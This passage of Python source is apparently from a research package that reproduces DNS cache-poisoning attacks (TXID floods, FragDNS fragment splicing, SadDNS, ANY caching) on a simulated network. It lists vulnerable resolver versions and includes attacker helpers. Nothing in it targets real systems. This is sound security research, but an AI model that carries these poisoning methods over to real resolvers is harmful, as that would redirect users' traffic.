    def question(self) -> Question | None:
        """First (usually only) question."""
        return self.questions[0] if self.questions else None

    @property
    def rcode_name(self) -> str:
        """Presentation name of the rcode."""
        return RCODE_NAMES.get(self.rcode, f"RCODE{self.rcode}")

    def all_records(self) -> list[ResourceRecord]:
        """Answers + authority + additional, in section order."""
        return [*self.answers, *self.authority, *self.additional]

    def reply_skeleton(self) -> "DnsMessage":
        """A response template echoing txid and question (case included)."""
        return DnsMessage(
            txid=self.txid,
            is_response=True,
            recursion_desired=self.recursion_desired,
            questions=list(self.questions),
            edns_udp_size=self.edns_udp_size,
            dnssec_ok=self.dnssec_ok,
        )

    def with_txid(self, txid: int) -> "DnsMessage":
        """Copy of this message with a different TXID (attacker helper)."""
        return replace(self, txid=txid,
                       questions=list(self.questions),
                       answers=list(self.answers),
                       authority=list(self.authority),
                       additional=list(self.additional))

    def describe(self) -> str:
        """One-line summary for traces."""
        kind = "resp" if self.is_response else "query"
        q = self.question
        qtext = f"{q.name}/{q.qtype_name}" if q else "<no question>"
        extra = f" rcode={self.rcode_name}" if self.is_response else ""
        return (f"{kind} txid={self.txid:#06x} {qtext}{extra}"
                f" ans={len(self.answers)} auth={len(self.authority)}"
                f" add={len(self.additional)}")


def make_query(name: str, qtype: int, txid: int,
               edns_udp_size: int | None = 4096,
               recursion_desired: bool = True) -> DnsMessage:
    """Build a standard query message."""
    return DnsMessage(
        txid=txid,
        is_response=False,
        recursion_desired=recursion_desired,
        questions=[Question(name=name, qtype=qtype)],
        edns_udp_size=edns_udp_size,
    )
