"""Behaviour presets for the resolver implementations measured in Table 5.

The paper tests ANY-response caching across five popular resolvers
(Section 5.2.2, Table 5).  Each preset below configures
:class:`~repro.dns.resolver.ResolverConfig` with the observed behaviour
of that implementation:

==========================  ==========  ====================================
Implementation              Vulnerable  Paper note
==========================  ==========  ====================================
BIND 9.14.0                 yes         caches ANY contents
Unbound 1.9.1               no          does not support ANY at all
PowerDNS Recursor 4.3.0     yes         caches ANY contents
systemd-resolved 245        yes         caches ANY contents
dnsmasq 2.79                no          answers but does not cache
==========================  ==========  ====================================
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.dns.resolver import ResolverConfig


@dataclass(frozen=True)
class ImplementationProfile:
    """One resolver software release and its observed behaviours."""

    name: str
    version: str
    any_caching: str          # "cache" | "no-cache" | "refuse"
    default_0x20: bool = False
    default_validates_dnssec: bool = False
    default_edns_size: int = 4096

    @property
    def vulnerable_to_any_poisoning(self) -> bool:
        """Whether cached ANY contents answer later A queries (Table 5)."""
        return self.any_caching == "cache"

    def make_config(self, **overrides) -> ResolverConfig:
        """A :class:`ResolverConfig` matching this implementation."""
        config = ResolverConfig(
            any_caching=self.any_caching,
            use_0x20=self.default_0x20,
            validates_dnssec=self.default_validates_dnssec,
            edns_udp_size=self.default_edns_size,
        )
        for key, value in overrides.items():
            setattr(config, key, value)
        return config


BIND_9_14 = ImplementationProfile(
    name="BIND", version="9.14.0", any_caching="cache",
)
UNBOUND_1_9 = ImplementationProfile(
    name="Unbound", version="1.9.1", any_caching="refuse",
    default_edns_size=4096,
)
POWERDNS_4_3 = ImplementationProfile(
    name="PowerDNS Recursor", version="4.3.0", any_caching="cache",
)
SYSTEMD_RESOLVED_245 = ImplementationProfile(
    name="systemd resolved", version="245", any_caching="cache",
    default_edns_size=512,
)
DNSMASQ_2_79 = ImplementationProfile(
    name="dnsmasq", version="2.79", any_caching="no-cache",
    default_edns_size=1232,
)

ALL_IMPLEMENTATIONS = [
    BIND_9_14,
    UNBOUND_1_9,
    POWERDNS_4_3,
    SYSTEMD_RESOLVED_245,
    DNSMASQ_2_79,
]

TABLE5_EXPECTED = {
    "BIND 9.14.0": ("yes", "cached"),
    "Unbound 1.9.1": ("no", "doesn't support ANY at all"),
    "PowerDNS Recursor 4.3.0": ("yes", "cached"),
    "systemd resolved 245": ("yes", "cached"),
    "dnsmasq 2.79": ("no", "not cached"),
}
