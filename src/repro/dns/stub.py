"""Stub resolver: the client-side API applications use for lookups.

A :class:`StubResolver` is bound to an application host and points at one
(or several) recursive resolvers.  ``lookup`` drives the simulation until
the answer arrives, giving application code a natural synchronous API
while everything underneath remains event-driven.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.errors import ResolutionError
from repro.core.rng import DeterministicRNG
from repro.dns.message import RCODE_NOERROR, make_query
from repro.dns.records import ResourceRecord, type_code
from repro.dns.wire import decode_message, encode_message
from repro.netsim.host import Host
from repro.netsim.packet import UdpDatagram

DNS_PORT = 53


@dataclass
class LookupAnswer:
    """What a stub lookup returned."""

    qname: str
    qtype: int
    rcode: int
    records: list[ResourceRecord] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        """True on NOERROR."""
        return self.rcode == RCODE_NOERROR

    def addresses(self) -> list[str]:
        """All A addresses in the answer."""
        from repro.dns.records import TYPE_A

        return [r.data for r in self.records if r.rtype == TYPE_A]

    def first_address(self) -> str | None:
        """First A address, or None."""
        addresses = self.addresses()
        return addresses[0] if addresses else None


class StubResolver:
    """Synchronous-feeling DNS client over the simulated network."""

    def __init__(self, host: Host, resolver_ips: list[str] | str,
                 rng: DeterministicRNG | None = None,
                 timeout: float = 5.0, attempts: int = 2):
        if isinstance(resolver_ips, str):
            resolver_ips = [resolver_ips]
        if not resolver_ips:
            raise ValueError("stub resolver needs at least one resolver")
        self.host = host
        self.resolver_ips = list(resolver_ips)
        self.rng = rng if rng is not None else DeterministicRNG(
            f"stub-{host.name}")
        self.timeout = timeout
        self.attempts = attempts

    def lookup(self, qname: str, qtype: int | str = "A",
               raise_on_error: bool = False) -> LookupAnswer:
        """Resolve (qname, qtype) via the configured recursive resolver.

        Runs the network until an answer arrives or the stub times out.
        """
        if isinstance(qtype, str):
            qtype = type_code(qtype)
        network = self.host.network
        if network is None:
            raise RuntimeError("stub host is not attached to a network")
        answer_box: dict[str, LookupAnswer] = {}

        for attempt in range(self.attempts):
            resolver_ip = self.resolver_ips[attempt % len(self.resolver_ips)]
            txid = self.rng.pick_txid()

            def on_datagram(datagram: UdpDatagram, src: str,
                            dst: str) -> None:
                if src != resolver_ip:
                    return
                try:
                    response = decode_message(datagram.payload)
                except Exception:
                    return
                if response.txid != txid or not response.is_response:
                    return
                answer_box["answer"] = LookupAnswer(
                    qname=qname, qtype=qtype, rcode=response.rcode,
                    records=list(response.answers),
                )

            socket = self.host.open_udp(None, on_datagram)
            query = make_query(qname, qtype, txid)
            socket.sendto(resolver_ip, DNS_PORT, encode_message(query))
            deadline = network.now + self.timeout
            while "answer" not in answer_box and network.now < deadline:
                if not network.scheduler.run_next():
                    break
            socket.close()
            if "answer" in answer_box:
                break
        if "answer" not in answer_box:
            if raise_on_error:
                raise ResolutionError(f"lookup timed out: {qname}")
            return LookupAnswer(qname=qname, qtype=qtype, rcode=2)
        answer = answer_box["answer"]
        if raise_on_error and not answer.ok:
            raise ResolutionError(
                f"lookup failed: {qname} rcode={answer.rcode}",
            )
        return answer
