"""DNS wire format: RFC 1035 encoding/decoding with name compression.

FragDNS rewrites the tail bytes of real DNS responses, so responses must
round-trip through a genuine byte encoding: a spoofed second fragment has
to splice into a first fragment at an 8-byte boundary and still parse.
Compression pointers, EDNS OPT records and per-type rdata codecs are
implemented for every type in :mod:`repro.dns.records`.
"""

from __future__ import annotations

import struct

from repro.core.errors import WireFormatError
from repro.dns.message import DnsMessage, Question
from repro.dns.records import (
    QTYPE_ANY,
    TYPE_A,
    TYPE_AAAA,
    TYPE_CNAME,
    TYPE_DNSKEY,
    TYPE_DS,
    TYPE_IPSECKEY,
    TYPE_MX,
    TYPE_NAPTR,
    TYPE_NS,
    TYPE_OPT,
    TYPE_PTR,
    TYPE_RRSIG,
    TYPE_SOA,
    TYPE_SRV,
    TYPE_TXT,
    ResourceRecord,
)
from repro.netsim.addresses import int_to_ip, ip_to_int

CLASS_IN = 1
_POINTER_MASK = 0xC0


class _Encoder:
    """Stateful encoder holding the compression offset table."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self._offsets: dict[str, int] = {}

    def name(self, name: str, compress: bool = True) -> None:
        """Append a (possibly compressed) domain name."""
        name = name.rstrip(".")
        remaining = name
        while remaining:
            key = remaining.lower()
            if compress and key in self._offsets:
                pointer = 0xC000 | self._offsets[key]
                self.buffer += struct.pack("!H", pointer)
                return
            if len(self.buffer) < 0x3FFF:
                self._offsets[key] = len(self.buffer)
            label, _, remaining = remaining.partition(".")
            encoded = label.encode("ascii")
            if not 1 <= len(encoded) <= 63:
                raise WireFormatError(f"bad label {label!r} in {name!r}")
            self.buffer.append(len(encoded))
            self.buffer += encoded
        self.buffer.append(0)

    def u8(self, value: int) -> None:
        self.buffer += struct.pack("!B", value)

    def u16(self, value: int) -> None:
        self.buffer += struct.pack("!H", value)

    def u32(self, value: int) -> None:
        self.buffer += struct.pack("!I", value)

    def raw(self, data: bytes) -> None:
        self.buffer += data

    def char_string(self, text: str) -> None:
        data = text.encode("utf-8")
        if len(data) > 255:
            raise WireFormatError("character-string longer than 255 bytes")
        self.buffer.append(len(data))
        self.buffer += data


def _encode_rdata(encoder: _Encoder, record: ResourceRecord) -> None:
    """Append rdata with a length prefix (patching rdlength afterwards)."""
    length_at = len(encoder.buffer)
    encoder.u16(0)  # placeholder
    start = len(encoder.buffer)
    rtype, data = record.rtype, record.data
    if rtype == TYPE_A:
        encoder.u32(ip_to_int(data))
    elif rtype == TYPE_AAAA:
        encoder.raw(bytes.fromhex(data.replace(":", "").ljust(32, "0"))[:16])
    elif rtype in (TYPE_NS, TYPE_CNAME, TYPE_PTR):
        encoder.name(data)
    elif rtype == TYPE_MX:
        preference, exchange = data
        encoder.u16(preference)
        encoder.name(exchange)
    elif rtype == TYPE_TXT:
        text = data
        for i in range(0, max(len(text), 1), 255):
            encoder.char_string(text[i:i + 255])
    elif rtype == TYPE_SRV:
        priority, weight, port, target = data
        encoder.u16(priority)
        encoder.u16(weight)
        encoder.u16(port)
        encoder.name(target, compress=False)
    elif rtype == TYPE_NAPTR:
        order, preference, flags, service, regexp, replacement = data
        encoder.u16(order)
        encoder.u16(preference)
        encoder.char_string(flags)
        encoder.char_string(service)
        encoder.char_string(regexp)
        encoder.name(replacement, compress=False)
    elif rtype == TYPE_SOA:
        mname, rname, serial, refresh, retry, expire, minimum = data
        encoder.name(mname)
        encoder.name(rname)
        for value in (serial, refresh, retry, expire, minimum):
            encoder.u32(value)
    elif rtype == TYPE_IPSECKEY:
        gateway, public_key = data
        encoder.u8(10)       # precedence
        encoder.u8(1)        # gateway type: IPv4
        encoder.u8(2)        # algorithm
        encoder.u32(ip_to_int(gateway))
        encoder.raw(public_key.encode("utf-8"))
    elif rtype == TYPE_RRSIG:
        covered, signer, valid, digest = data
        encoder.u16(covered)
        encoder.u8(1 if valid else 0)
        encoder.name(signer, compress=False)
        encoder.raw(digest.encode("ascii"))
    elif rtype in (TYPE_DNSKEY, TYPE_DS):
        encoder.raw(data if isinstance(data, bytes)
                    else str(data).encode("utf-8"))
    else:
        encoder.raw(data if isinstance(data, bytes)
                    else str(data).encode("utf-8"))
    rdlength = len(encoder.buffer) - start
    encoder.buffer[length_at:length_at + 2] = struct.pack("!H", rdlength)


def _encode_record(encoder: _Encoder, record: ResourceRecord) -> None:
    encoder.name(record.name)
    encoder.u16(record.rtype)
    encoder.u16(CLASS_IN)
    encoder.u32(record.ttl)
    _encode_rdata(encoder, record)


def _encode_opt(encoder: _Encoder, udp_size: int, dnssec_ok: bool) -> None:
    encoder.buffer.append(0)          # root name
    encoder.u16(TYPE_OPT)
    encoder.u16(udp_size)             # "class" carries the UDP size
    flags = 0x8000 if dnssec_ok else 0
    encoder.u32(flags)                # ext-rcode/version/DO in "ttl"
    encoder.u16(0)                    # empty rdata


# Memoisation for the wire codecs.  Retransmission storms and TXID
# floods move thousands of *value-identical* messages (modulo the 16-bit
# TXID in the first two bytes), so both caches key on the message with
# the TXID stripped: the remaining bytes are TXID-independent, and the
# header word is spliced back per call.  Keys are built from the
# messages' (frozen, hashable) questions and records by value, which
# makes the caches immune to callers mutating section lists afterwards —
# a mutated message simply produces a different key.
_ENCODE_CACHE: dict[tuple, bytes] = {}
_DECODE_CACHE: dict[bytes, DnsMessage] = {}
_WIRE_CACHE_MAX = 2048


def _message_cache_key(message: DnsMessage) -> tuple | None:
    """Value key of everything but the TXID; None if rdata is unhashable."""
    key = (
        message.is_response, message.authoritative, message.truncated,
        message.recursion_desired, message.recursion_available,
        message.rcode, tuple(message.questions),
        tuple(message.answers), tuple(message.authority),
        tuple(message.additional), message.edns_udp_size,
        message.dnssec_ok,
    )
    try:
        # Building the tuple never hashes the records; force it here so
        # unhashable rdata (e.g. list-valued data) degrades to the
        # uncached encoder instead of blowing up at dict lookup.
        hash(key)
    except TypeError:
        return None
    return key


def _encode_tail(message: DnsMessage) -> bytes:
    """Encode everything after the TXID word (TXID-independent bytes)."""
    encoder = _Encoder()
    flags = 0
    if message.is_response:
        flags |= 0x8000
    if message.authoritative:
        flags |= 0x0400
    if message.truncated:
        flags |= 0x0200
    if message.recursion_desired:
        flags |= 0x0100
    if message.recursion_available:
        flags |= 0x0080
    flags |= message.rcode & 0xF
    arcount = len(message.additional) \
        + (1 if message.edns_udp_size is not None else 0)
    # The compression offset table must see offsets relative to the full
    # message, so the encoder starts with a 2-byte placeholder where the
    # TXID will be spliced in.
    encoder.raw(struct.pack(
        "!HHHHHH", 0, flags, len(message.questions),
        len(message.answers), len(message.authority), arcount,
    ))
    for question in message.questions:
        encoder.name(question.name)
        encoder.u16(question.qtype)
        encoder.u16(CLASS_IN)
    for record in message.answers:
        _encode_record(encoder, record)
    for record in message.authority:
        _encode_record(encoder, record)
    for record in message.additional:
        _encode_record(encoder, record)
    if message.edns_udp_size is not None:
        _encode_opt(encoder, message.edns_udp_size, message.dnssec_ok)
    return bytes(encoder.buffer[2:])


def encode_message(message: DnsMessage) -> bytes:
    """Serialise a :class:`DnsMessage` to wire bytes (memoised)."""
    key = _message_cache_key(message)
    tail = _ENCODE_CACHE.get(key) if key is not None else None
    if tail is None:
        tail = _encode_tail(message)
        if key is not None:
            if len(_ENCODE_CACHE) >= _WIRE_CACHE_MAX:
                _ENCODE_CACHE.clear()
            _ENCODE_CACHE[key] = tail
    return struct.pack("!H", message.txid) + tail


class _Decoder:
    """Cursor over wire bytes with pointer-chasing name parsing."""

    def __init__(self, data: bytes):
        self.data = data
        self.pos = 0

    def need(self, count: int) -> None:
        if self.pos + count > len(self.data):
            raise WireFormatError(
                f"truncated message at offset {self.pos} (+{count})"
            )

    def u8(self) -> int:
        self.need(1)
        value = self.data[self.pos]
        self.pos += 1
        return value

    def u16(self) -> int:
        self.need(2)
        value = struct.unpack_from("!H", self.data, self.pos)[0]
        self.pos += 2
        return value

    def u32(self) -> int:
        self.need(4)
        value = struct.unpack_from("!I", self.data, self.pos)[0]
        self.pos += 4
        return value

    def raw(self, count: int) -> bytes:
        self.need(count)
        value = self.data[self.pos:self.pos + count]
        self.pos += count
        return value

    def char_string(self) -> str:
        length = self.u8()
        return self.raw(length).decode("utf-8", errors="replace")

    def name(self) -> str:
        labels: list[str] = []
        position = self.pos
        jumped = False
        hops = 0
        while True:
            if position >= len(self.data):
                raise WireFormatError("name runs past end of message")
            length = self.data[position]
            if length & _POINTER_MASK == _POINTER_MASK:
                if position + 1 >= len(self.data):
                    raise WireFormatError("truncated compression pointer")
                pointer = struct.unpack_from("!H", self.data,
                                             position)[0] & 0x3FFF
                if not jumped:
                    self.pos = position + 2
                    jumped = True
                position = pointer
                hops += 1
                if hops > 64:
                    raise WireFormatError("compression pointer loop")
                continue
            if length & _POINTER_MASK:
                raise WireFormatError(f"bad label length byte {length:#04x}")
            position += 1
            if length == 0:
                if not jumped:
                    self.pos = position
                return ".".join(labels)
            if position + length > len(self.data):
                raise WireFormatError("label runs past end of message")
            labels.append(
                self.data[position:position + length].decode(
                    "ascii", errors="replace")
            )
            position += length


def _decode_rdata(decoder: _Decoder, rtype: int, rdlength: int):
    end = decoder.pos + rdlength
    if rtype == TYPE_A:
        return int_to_ip(decoder.u32())
    if rtype == TYPE_AAAA:
        return decoder.raw(16).hex()
    if rtype in (TYPE_NS, TYPE_CNAME, TYPE_PTR):
        return decoder.name()
    if rtype == TYPE_MX:
        return (decoder.u16(), decoder.name())
    if rtype == TYPE_TXT:
        chunks = []
        while decoder.pos < end:
            chunks.append(decoder.char_string())
        return "".join(chunks)
    if rtype == TYPE_SRV:
        return (decoder.u16(), decoder.u16(), decoder.u16(), decoder.name())
    if rtype == TYPE_NAPTR:
        return (decoder.u16(), decoder.u16(), decoder.char_string(),
                decoder.char_string(), decoder.char_string(), decoder.name())
    if rtype == TYPE_SOA:
        return (decoder.name(), decoder.name(), decoder.u32(), decoder.u32(),
                decoder.u32(), decoder.u32(), decoder.u32())
    if rtype == TYPE_IPSECKEY:
        decoder.u8()  # precedence
        decoder.u8()  # gateway type
        decoder.u8()  # algorithm
        gateway = int_to_ip(decoder.u32())
        key = decoder.raw(end - decoder.pos).decode("utf-8", "replace")
        return (gateway, key)
    if rtype == TYPE_RRSIG:
        covered = decoder.u16()
        valid = bool(decoder.u8())
        signer = decoder.name()
        digest = decoder.raw(end - decoder.pos).decode("ascii", "replace")
        return (covered, signer, valid, digest)
    return decoder.raw(rdlength)


def _decode_record(decoder: _Decoder) -> ResourceRecord | tuple[int, bool]:
    """Decode one RR; OPT records return (udp_size, dnssec_ok) instead."""
    name = decoder.name()
    rtype = decoder.u16()
    klass = decoder.u16()
    ttl = decoder.u32()
    rdlength = decoder.u16()
    if rtype == TYPE_OPT:
        decoder.raw(rdlength)
        return (klass, bool(ttl & 0x8000))
    start = decoder.pos
    data = _decode_rdata(decoder, rtype, rdlength)
    if decoder.pos != start + rdlength:
        # Names inside rdata may use compression into earlier bytes, which
        # can legitimately make parsing shorter than rdlength is wrong —
        # treat any mismatch as malformed.
        raise WireFormatError(
            f"rdata length mismatch for type {rtype}: "
            f"declared {rdlength}, consumed {decoder.pos - start}"
        )
    return ResourceRecord(name=name, rtype=rtype, ttl=ttl, data=data)


def _copy_message(template: DnsMessage, txid: int) -> DnsMessage:
    """Fresh message equal to ``template`` but for the TXID.

    Handing out copies (fresh section lists over the same frozen
    records) keeps the decode cache safe against callers mutating the
    result.
    """
    message = DnsMessage(
        txid=txid,
        is_response=template.is_response,
        authoritative=template.authoritative,
        truncated=template.truncated,
        recursion_desired=template.recursion_desired,
        recursion_available=template.recursion_available,
        rcode=template.rcode,
        questions=list(template.questions),
        answers=list(template.answers),
        authority=list(template.authority),
        additional=list(template.additional),
        edns_udp_size=template.edns_udp_size,
        dnssec_ok=template.dnssec_ok,
    )
    return message


def decode_message(data: bytes) -> DnsMessage:
    """Parse wire bytes into a :class:`DnsMessage` (memoised).

    Raises :class:`WireFormatError` on malformed input; resolvers treat
    that as a silent drop, which is what makes badly-spliced attack
    fragments fail harmlessly.

    A TXID flood is 2^16 parses of the same bytes with a different
    header word, so successful parses are cached keyed on ``data[2:]``
    (compression offsets count from the message start, which the TXID
    never shifts) and replayed as cheap copies.
    """
    if len(data) >= 2:
        template = _DECODE_CACHE.get(data[2:])
        if template is not None:
            return _copy_message(template, (data[0] << 8) | data[1])
    message = _decode_message_uncached(data)
    if len(_DECODE_CACHE) >= _WIRE_CACHE_MAX:
        _DECODE_CACHE.clear()
    _DECODE_CACHE[data[2:]] = _copy_message(message, 0)
    return message


def _decode_message_uncached(data: bytes) -> DnsMessage:
    decoder = _Decoder(data)
    txid = decoder.u16()
    flags = decoder.u16()
    qdcount = decoder.u16()
    ancount = decoder.u16()
    nscount = decoder.u16()
    arcount = decoder.u16()
    message = DnsMessage(
        txid=txid,
        is_response=bool(flags & 0x8000),
        authoritative=bool(flags & 0x0400),
        truncated=bool(flags & 0x0200),
        recursion_desired=bool(flags & 0x0100),
        recursion_available=bool(flags & 0x0080),
        rcode=flags & 0xF,
    )
    for _ in range(qdcount):
        name = decoder.name()
        qtype = decoder.u16()
        decoder.u16()  # class
        message.questions.append(Question(name=name, qtype=qtype))
    for _ in range(ancount):
        record = _decode_record(decoder)
        if isinstance(record, ResourceRecord):
            message.answers.append(record)
    for _ in range(nscount):
        record = _decode_record(decoder)
        if isinstance(record, ResourceRecord):
            message.authority.append(record)
    for _ in range(arcount):
        record = _decode_record(decoder)
        if isinstance(record, ResourceRecord):
            message.additional.append(record)
        else:
            message.edns_udp_size, message.dnssec_ok = record
    return message


def response_size(message: DnsMessage) -> int:
    """Encoded size in bytes (used by fragmentation feasibility checks)."""
    return len(encode_message(message))
