"""Modelled DNSSEC: signed-zone registry and signature validity.

The paper's attacks never break DNSSEC cryptography — they succeed where
DNSSEC is absent (fewer than 5% of studied domains were signed) or not
validated (71.4% of resolvers).  The model therefore only needs the
*control flow* of validation:

* genuine signed zones attach RRSIGs whose ``valid`` flag is True;
* off-path attackers cannot produce a valid signature, so every forgery
  helper in :mod:`repro.attacks` stamps ``valid=False``;
* a validating resolver rejects answers from zones registered as signed
  unless a valid covering RRSIG is present.
"""

from __future__ import annotations

from repro.dns import names
from repro.dns.records import ResourceRecord, TYPE_RRSIG


class DnssecRegistry:
    """The set of zone origins protected by a secure delegation chain.

    Shared between testbed construction (which registers signed zones)
    and validating resolvers (which consult it).  It stands in for the
    DS-record chain of trust from the root.
    """

    def __init__(self) -> None:
        self._signed: set[str] = set()

    def register(self, origin: str) -> None:
        """Mark ``origin`` as a signed zone with a valid chain of trust."""
        self._signed.add(names.normalise(origin))

    def is_signed(self, origin: str) -> bool:
        """Whether the zone at ``origin`` is signed."""
        return names.normalise(origin) in self._signed

    def covering_signed_zone(self, name: str) -> str | None:
        """Deepest registered signed zone containing ``name``, if any."""
        best: str | None = None
        for origin in self._signed:
            if names.is_subdomain(name, origin):
                if best is None or len(origin) > len(best):
                    best = origin
        return best


def validate_rrsets(records: list[ResourceRecord], zone_origin: str,
                    registry: DnssecRegistry) -> bool:
    """Check the (modelled) signatures over a response's records.

    Returns True when the records are acceptable to a validating
    resolver: either the zone is unsigned (no protection expected), or
    every non-RRSIG rrset is covered by a valid RRSIG from the right
    signer.
    """
    if not registry.is_signed(zone_origin):
        return True
    rrsigs = [r for r in records if r.rtype == TYPE_RRSIG]
    plain = [r for r in records if r.rtype != TYPE_RRSIG]
    if not plain:
        return True
    from repro.dns.records import rrset_digest

    needed = {(names.normalise(r.name), r.rtype) for r in plain}
    for owner, rtype in needed:
        rrset = [
            r for r in plain
            if names.normalise(r.name) == owner and r.rtype == rtype
        ]
        presented_digest = rrset_digest(rrset)
        covered = False
        for sig in rrsigs:
            sig_covered_type, signer, valid, digest = sig.data
            if (names.normalise(sig.name) == owner
                    and sig_covered_type == rtype
                    and valid
                    and digest == presented_digest
                    and names.same_name(signer, zone_origin)):
                covered = True
                break
        if not covered:
            return False
    return True
