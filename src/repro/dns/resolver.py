"""The recursive DNS resolver — the victim of every attack in the paper.

Implements genuine iterative resolution over the simulated network with
the RFC 5452 defences as explicit, individually-switchable policy:
random source ports, random TXIDs, 0x20 query-case encoding, bailiwick
filtering, response source validation, in-flight deduplication (anti
birthday attack), EDNS buffer advertisement, optional DNSSEC validation
and TCP fallback on truncation.

The resolver also runs the client-facing service (port 53): that is the
surface through which attackers *trigger* queries and through which
victim applications later consume poisoned records.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.core.clock import TimerHandle
from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.cache import DnsCache
from repro.dns.dnssec import DnssecRegistry, validate_rrsets
from repro.dns.message import (
    DnsMessage,
    Question,
    RCODE_NOERROR,
    RCODE_NOTIMP,
    RCODE_NXDOMAIN,
    RCODE_REFUSED,
    RCODE_SERVFAIL,
    make_query,
)
from repro.dns.records import (
    QTYPE_ANY,
    ResourceRecord,
    TYPE_A,
    TYPE_CNAME,
    TYPE_NS,
    TYPE_RRSIG,
)
from repro.dns.wire import decode_message, encode_message
from repro.netsim.host import Host, UdpSocket
from repro.netsim.packet import UdpDatagram

DNS_PORT = 53

ResolveCallback = Callable[["ResolutionResult"], None]


@dataclass
class ResolverConfig:
    """Policy knobs; defaults match a typical post-Kaminsky resolver."""

    port_policy: str = "random"     # "random" | "fixed"
    fixed_port: int = 3053
    use_0x20: bool = False
    validates_dnssec: bool = False
    edns_udp_size: int | None = 4096
    any_caching: str = "cache"      # "cache" | "no-cache" | "refuse"
    timeout: float = 2.0
    retries: int = 2                # attempts per nameserver
    new_port_per_retry: bool = False  # most stacks keep the socket/port
    max_cname_depth: int = 8
    max_referral_depth: int = 24
    dedup_inflight: bool = True
    open_to_world: bool = False
    allowed_clients: list[str] = field(default_factory=list)  # prefixes
    tcp_fallback: bool = True
    ns_randomisation: bool = True


@dataclass
class ResolverStats:
    """Query/response accounting for one resolver."""

    client_queries: int = 0
    client_refused: int = 0
    cache_answers: int = 0
    upstream_queries: int = 0
    upstream_timeouts: int = 0
    rejected_responses: int = 0
    dnssec_failures: int = 0
    resolutions: int = 0
    servfails: int = 0


@dataclass
class ResolutionResult:
    """Outcome of one recursive resolution."""

    qname: str
    qtype: int
    rcode: int
    records: list[ResourceRecord] = field(default_factory=list)
    from_cache: bool = False
    queries_sent: int = 0
    duration: float = 0.0

    @property
    def ok(self) -> bool:
        """True when resolution succeeded (possibly with zero records)."""
        return self.rcode == RCODE_NOERROR

    def addresses(self) -> list[str]:
        """All A-record addresses in the result."""
        return [r.data for r in self.records if r.rtype == TYPE_A]


class _Resolution:
    """State machine for one in-flight recursive lookup."""

    def __init__(self, resolver: "RecursiveResolver", qname: str, qtype: int,
                 depth: int = 0):
        self.resolver = resolver
        self.qname = qname
        self.qtype = qtype
        self.depth = depth
        self.callbacks: list[ResolveCallback] = []
        self.servers: list[str] = list(resolver.root_hints)
        self.bailiwick = ""
        self.referrals = 0
        self.attempt = 0
        self.server_index = 0
        self.queries_sent = 0
        self.started_at = resolver.host.now
        self.socket: UdpSocket | None = None
        self.timer: TimerHandle | None = None
        self.sent_name = qname
        self.txid = 0
        self.current_server = ""
        self.finished = False
        if resolver.config.ns_randomisation:
            resolver.rng.shuffle(self.servers)

    # -- lifecycle ---------------------------------------------------------

    def start(self) -> None:
        self._send_query()

    def _send_query(self) -> None:
        resolver = self.resolver
        config = resolver.config
        if self.server_index >= len(self.servers):
            self._finish(RCODE_SERVFAIL, [])
            return
        self.current_server = self.servers[self.server_index]
        self.txid = resolver.rng.pick_txid()
        if config.use_0x20:
            self.sent_name = names.encode_0x20(
                self.qname, resolver.rng.derive(f"0x20-{self.queries_sent}")
            )
        else:
            self.sent_name = names.normalise(self.qname)
        self._open_socket()
        query = make_query(self.sent_name, self.qtype, self.txid,
                           edns_udp_size=config.edns_udp_size,
                           recursion_desired=False)
        assert self.socket is not None
        self.socket.sendto(self.current_server, DNS_PORT,
                           encode_message(query))
        self.queries_sent += 1
        resolver.stats.upstream_queries += 1
        self.timer = resolver.host.network.scheduler.call_later(
            config.timeout, self._on_timeout
        )

    def _open_socket(self) -> None:
        resolver = self.resolver
        if self.socket is not None and not self.socket.closed:
            if not resolver.config.new_port_per_retry:
                # Keep the same socket (and source port) across
                # retransmissions — the behaviour SadDNS depends on.
                self.socket.handler = self._on_datagram
                return
            self.socket.close()
        if resolver.config.port_policy == "fixed":
            port = resolver.config.fixed_port
            existing = resolver.host.open_ports()
            if port in existing:
                # Reuse: fixed-port resolvers share one socket.
                self.socket = resolver._fixed_socket
                self.socket.handler = self._on_datagram
                return
            self.socket = resolver.host.open_udp(port, self._on_datagram)
            resolver._fixed_socket = self.socket
        else:
            self.socket = resolver.host.open_udp(None, self._on_datagram)

    def _close_socket(self) -> None:
        if self.socket is not None and not self.socket.closed:
            if self.resolver.config.port_policy != "fixed":
                self.socket.close()
        self.socket = None

    def _cancel_timer(self) -> None:
        if self.timer is not None:
            self.timer.cancel()
            self.timer = None

    def _on_timeout(self) -> None:
        if self.finished:
            return
        self.resolver.stats.upstream_timeouts += 1
        self.attempt += 1
        if self.attempt >= self.resolver.config.retries:
            self.attempt = 0
            self.server_index += 1
        if self.resolver.config.new_port_per_retry:
            self._close_socket()
        self._send_query()

    # -- response handling ---------------------------------------------------

    def _on_datagram(self, datagram: UdpDatagram, src: str, dst: str) -> None:
        if self.finished:
            return
        try:
            response = decode_message(datagram.payload)
        except Exception:
            return
        if not self._validate(response, src):
            self.resolver.stats.rejected_responses += 1
            return
        self._cancel_timer()
        if response.truncated and self.resolver.config.tcp_fallback:
            self._retry_over_tcp()
            return
        self._close_socket()
        self._process(response)

    def _validate(self, response: DnsMessage, src: str) -> bool:
        """RFC 5452 acceptance checks: source, TXID, question echo."""
        if not response.is_response:
            return False
        if src != self.current_server:
            return False
        if response.txid != self.txid:
            return False
        question = response.question
        if question is None or question.qtype != self.qtype:
            return False
        if self.resolver.config.use_0x20:
            return names.case_matches(self.sent_name, question.name)
        return names.same_name(self.sent_name, question.name)

    def _retry_over_tcp(self) -> None:
        resolver = self.resolver
        query = make_query(self.sent_name, self.qtype, self.txid,
                           edns_udp_size=None, recursion_desired=False)

        def on_bytes(data: bytes | None) -> None:
            if self.finished:
                return
            if data is None:
                self._on_timeout()
                return
            try:
                response = decode_message(data)
            except Exception:
                self._on_timeout()
                return
            self._close_socket()
            self._process(response)

        self._close_socket()
        resolver.host.network.stream_request(
            resolver.host, self.current_server, DNS_PORT,
            encode_message(query), on_bytes,
        )
        self.queries_sent += 1
        resolver.stats.upstream_queries += 1

    def _process(self, response: DnsMessage) -> None:
        resolver = self.resolver
        config = resolver.config
        now = resolver.host.now
        if response.rcode == RCODE_NXDOMAIN:
            self._finish(RCODE_NXDOMAIN, [])
            return
        if response.rcode != RCODE_NOERROR:
